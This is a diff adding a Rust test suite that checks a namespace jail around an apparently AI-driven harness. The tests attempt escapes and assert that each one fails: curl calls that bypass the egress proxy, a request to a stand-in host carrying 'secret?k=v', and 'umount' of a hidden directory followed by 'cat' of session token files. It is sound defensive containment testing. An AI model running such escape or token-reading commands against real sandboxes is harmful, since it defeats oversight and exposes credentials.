@@ -1,0 +1,249 @@
+//! The jail's escape suite (DESIGN §8, docs/containment.md): a hostile harness — the test
+//! fixture running shell commands (`@run`) — tries to climb each wall of its attempt in
+//! namespace mode, and fails:
+//! - the network: a loopback listener it was not granted gets no connection, directly or
+//!   through the proxy; an unlisted name is refused by the egress proxy with a sentence naming
+//!   what may be reached, and traced as `egress_denied` (shown by `mur trace show`); the
+//!   namespace has no interface but `lo`, no route and no resolver; a granted loopback
+//!   destination is reached;
+//! - root's mounts: run as root (as it is here), the harness holds no capability that could
+//!   unmount the hide over `$MURMUR_HOME/run`, and the token files stay out of sight.
+//!
+//! This machine grants namespaces (CI runs here too); a kernel that refuses them fails these
+//! tests rather than skipping them, since the walls would then not be there.
+
+mod support;
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde_json::Value;
+use support::*;
+
+/// A loopback listener that counts the connections it accepts and answers each with a line.
+struct Counting {
+    port: u16,
+    accepted: Arc<AtomicUsize>,
+}
+
+impl Counting {
+    fn start() -> Counting {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let accepted = Arc::new(AtomicUsize::new(0));
+        let count = accepted.clone();
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { continue };
+                count.fetch_add(1, Ordering::SeqCst);
+                let mut buf = [0u8; 1024];
+                let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
+                let _ = conn.read(&mut buf);
+                let body = "counted\n";
+                let _ = write!(
+                    conn,
+                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            }
+        });
+        Counting { port, accepted }
+    }
+
+    fn count(&self) -> usize {
+        self.accepted.load(Ordering::SeqCst)
+    }
+}
+
+/// The fixture capsule in namespace mode, with `extra` manifest text.
+fn jailed(home: &Home, extra: &str) -> Launch {
+    let manifest = home.write(
+        "murmur.yaml",
+        &format!("{}{extra}", Fixture::default().yaml()),
+    );
+    let run = Launch::start_env(
+        home,
+        &manifest,
+        &[],
+        &[("MURMUR_CONTAINMENT", "namespaces".to_owned())],
+    );
+    let start = home
+        .trace(&run.session)
+        .into_iter()
+        .find(|e| e["event_type"] == "session_start")
+        .unwrap();
+    assert_eq!(start["containment"], "namespaces", "{start}");
+    run
+}
+
+/// Runs `command` in the harness with sh; answers `{"code", "out", "err"}` and the task's id.
+fn harness_runs(run: &Launch, command: &str) -> (Value, String) {
+    let done = run.send(&format!("@run {command}"), false);
+    let task = &done["result"]["task"];
+    assert_eq!(task["status"]["state"], "TASK_STATE_COMPLETED", "{done}");
+    let said = task["artifacts"][0]["parts"][0]["text"].as_str().unwrap();
+    (
+        serde_json::from_str(said).unwrap(),
+        task["id"].as_str().unwrap().to_owned(),
+    )
+}
+
+fn egress_denied(home: &Home, run: &Launch) -> Vec<Value> {
+    home.trace(&run.session)
+        .into_iter()
+        .filter(|e| e["event_type"] == "egress_denied")
+        .collect()
+}
+
+#[test]
+fn an_ungranted_loopback_listener_gets_no_connection() {
+    let home = Home::new();
+    let listener = Counting::start();
+    let run = jailed(&home, "");
+    let port = listener.port;
+    // Straight at it, ignoring the proxy: nothing listens on that port inside the namespace.
+    let (direct, _) = harness_runs(
+        &run,
+        &format!("curl -s -m 5 --noproxy '*' http://127.0.0.1:{port}/"),
+    );
+    assert_eq!(direct["code"], 7, "curl could not connect: {direct}");
+    // Through the proxy: refused, named, traced.
+    let (proxied, task) = harness_runs(
+        &run,
+        &format!("curl -s -m 5 --noproxy '' --proxy \"$HTTP_PROXY\" http://127.0.0.1:{port}/"),
+    );
+    assert_eq!(
+        proxied["out"],
+        format!(
+            "murmur: egress to 127.0.0.1:{port} is refused: this capsule's harness may reach \
+             nothing (capabilities.network.allow, the members it calls, and its CLI's \
+             provider); add the destination to capabilities.network.allow to grant it\n"
+        ),
+        "{proxied}"
+    );
+    let denied = egress_denied(&home, &run);
+    assert_eq!(denied.len(), 1, "{denied:?}");
+    assert_eq!(
+        (
+            &denied[0]["task_id"],
+            &denied[0]["host"],
+            &denied[0]["port"]
+        ),
+        (
+            &Value::from(task),
+            &Value::from("127.0.0.1"),
+            &Value::from(port)
+        )
+    );
+    assert_eq!(listener.count(), 0, "the listener was reached");
+}
+
+#[test]
+fn a_granted_loopback_destination_is_reached() {
+    let home = Home::new();
+    let listener = Counting::start();
+    let port = listener.port;
+    let run = jailed(
+        &home,
+        &format!("capabilities:\n  network:\n    allow: [\"127.0.0.1:{port}\"]\n"),
+    );
+    let (direct, _) = harness_runs(&run, &format!("curl -s -m 5 http://127.0.0.1:{port}/"));
+    assert_eq!(
+        (direct["code"].as_i64(), direct["out"].as_str()),
+        (Some(0), Some("counted\n"))
+    );
+    assert_eq!(listener.count(), 1);
+    let (proxied, _) = harness_runs(
+        &run,
+        &format!("curl -s -m 5 --noproxy '' --proxy \"$HTTP_PROXY\" http://127.0.0.1:{port}/"),
+    );
+    assert_eq!(proxied["out"], "counted\n", "{proxied}");
+    assert_eq!(listener.count(), 2);
+    assert!(egress_denied(&home, &run).is_empty());
+}
+
+#[test]
+fn an_unlisted_name_is_refused_and_nothing_routes_off_loopback() {
+    let home = Home::new();
+    let run = jailed(&home, "");
+    let (said, task) = harness_runs(&run, "curl -s -m 5 http://unlisted.example/secret?k=v");
+    assert!(
+        said["out"]
+            .as_str()
+            .unwrap()
+            .starts_with("murmur: egress to unlisted.example:80 is refused"),
+        "{said}"
+    );
+    let (tls, _) = harness_runs(&run, "curl -s -m 5 https://unlisted.example/");
+    assert_ne!(tls["code"], 0, "CONNECT was refused: {tls}");
+    let denied = egress_denied(&home, &run);
+    assert_eq!(denied.len(), 2, "{denied:?}");
+    assert_eq!(
+        (&denied[0]["host"], &denied[0]["port"], &denied[1]["port"]),
+        (
+            &Value::from("unlisted.example"),
+            &Value::from(80),
+            &Value::from(443)
+        )
+    );
+    // No resolver, no interface but lo, no route: a program that ignores the proxy variables
+    // has nowhere to send a packet.
+    let (dns, _) = harness_runs(&run, "getent hosts unlisted.example");
+    assert_ne!(dns["code"], 0, "{dns}");
+    let (net, _) = harness_runs(
+        &run,
+        "awk 'NR > 2 { print $1 }' /proc/net/dev; tail -n +2 /proc/net/route",
+    );
+    assert_eq!(net["out"], "lo:\n", "{net}");
+    // `mur trace show` names each refusal under Harness.
+    let (code, out, err) = home.run(&["trace", "show", &run.session]);
+    assert_eq!(code, 0, "{err}");
+    let short = &task[..12];
+    let line = format!("{short}  egress refused  unlisted.example:80");
+    assert!(
+        out.lines().any(|l| l.ends_with(&line)),
+        "no line {line:?} in\n{out}"
+    );
+}
+
+#[test]
+fn root_in_the_jail_cannot_unmount_the_hide() {
+    let home = Home::new();
+    // Another session of the same user, with minted tokens in $MURMUR_HOME/run.
+    let guarded = {
+        let m = home.write(
+            "guarded/murmur.yaml",
+            &format!(
+                "{}network:\n  authentication:\n    scheme: bearer\n",
+                Fixture::default().yaml()
+            ),
+        );
+        Launch::start(&home, &m, &[])
+    };
+    let run = jailed(&home, "");
+    let run_dir = home.home.join("run");
+    let tokens = run_dir.join(format!("{}.tokens", guarded.session));
+    assert!(tokens.exists());
+    let operator = home.operator_token(&guarded.session);
+    let (said, _) = harness_runs(
+        &run,
+        &format!(
+            "umount {dir} || umount -l {dir}; cat {dir}/*.tokens; grep CapEff /proc/self/status",
+            dir = run_dir.display()
+        ),
+    );
+    assert!(!said.to_string().contains(&operator), "{said}");
+    let err = said["err"].as_str().unwrap();
+    assert!(err.contains("umount"), "umount was refused: {said}");
+    // Only CAP_SETFCAP (bit 31) is left, whatever the uid: no CAP_SYS_ADMIN to undo a mount.
+    assert!(
+        said["out"]
+            .as_str()
+            .unwrap()
+            .contains("CapEff:\t0000000080000000"),
+        "{said}"
+    );
+}
